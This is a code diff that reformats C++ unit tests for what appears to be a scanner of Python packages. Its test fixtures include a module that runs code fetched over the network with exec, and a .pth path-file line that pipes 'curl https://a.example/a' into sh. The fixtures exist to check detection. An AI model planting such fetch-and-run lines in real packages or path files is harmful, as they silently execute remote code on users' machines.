@@ -40,17 +40,16 @@ std::string all_of(const Analysis& analysis) {
   return result;
 }
 
-TEST(Analyze, TwiceTheSame) {
-  EXPECT_EQ(all_of(analysis_of(kPackage)), all_of(analysis_of(kPackage)));
-}
+TEST(Analyze, TwiceTheSame) { EXPECT_EQ(all_of(analysis_of(kPackage)), all_of(analysis_of(kPackage))); }
 
 TEST(Analyze, TheNamesOfFilesDoNotMatter) {
   // Who is read first does not change what is found: a module that is needed is run before its turn.
   for (const char* const order : {"a", "z"}) {
     const std::string user = std::string(order) == "a" ? "b.py" : "y.py";
     const std::string net = std::string(order) == "a" ? "z" : "a";
-    const std::string program = "--- " + user + "\nimport " + net + "\nexec(" + net + ".fetch())  # to\n--- " + net +
-                                ".py\nimport requests\ndef fetch():\n    return requests.get('a').text  # from\n";
+    const std::string program =
+        "--- " + user + "\nimport " + net + "\nexec(" + net + ".fetch())  # to\n--- " + net +
+        ".py\nimport requests\ndef fetch():\n    return requests.get('a').text  # from\n";
     expect_marked(program);
   }
 }
@@ -121,7 +120,8 @@ TEST(Analyze, NothingToRead) {
 }
 
 TEST(Analyze, LinesOfAPathFile) {
-  const Analysis analysis = analysis_of("--- a.pth\nimport os; os.system('curl https://a.example/a | sh')\n/opt/lib\n");
+  const Analysis analysis =
+      analysis_of("--- a.pth\nimport os; os.system('curl https://a.example/a | sh')\n/opt/lib\n");
   EXPECT_TRUE(has_rule(analysis, "sinks.os-command") || !analysis.findings.empty());
 }
 
